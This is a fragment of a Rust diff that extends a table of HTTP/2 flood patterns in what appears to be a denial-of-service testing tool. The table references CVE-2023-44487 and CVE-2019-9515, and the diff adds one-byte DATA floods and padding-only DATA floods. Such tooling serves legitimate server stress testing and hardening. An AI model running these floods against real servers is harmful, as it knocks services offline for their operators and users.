@@ -43,7 +43,7 @@ impl Attack {
 }
 
 /// Name, frames of one step, and what a step sends.
-const FLOODS: [(&str, usize, Step); 16] = [
+const FLOODS: [(&str, usize, Step); 18] = [
     (
         "requests that are reset at once (CVE-2023-44487)",
         2,
@@ -122,6 +122,21 @@ const FLOODS: [(&str, usize, Step); 16] = [
             return frame(HEADERS, END_HEADERS, 1, &attack.get.clone());
         }
         frame(DATA, 0, 1, &[])
+    }),
+    ("DATA of one byte", 1, |attack| {
+        if attack.stream == 0 {
+            attack.stream = 1;
+            return frame(HEADERS, END_HEADERS, 1, &attack.get.clone());
+        }
+        frame(DATA, 0, 1, b"x")
+    }),
+    ("DATA of padding alone", 1, |attack| {
+        if attack.stream == 0 {
+            attack.stream = 1;
+            return frame(HEADERS, END_HEADERS, 1, &attack.get.clone());
+        }
+        // PADDED, with 255 bytes of it.
+        frame(DATA, 8, 1, &[&[255], [0; 255].as_slice()].concat())
     }),
     ("SETTINGS (CVE-2019-9515)", 1, |_| {
         frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])
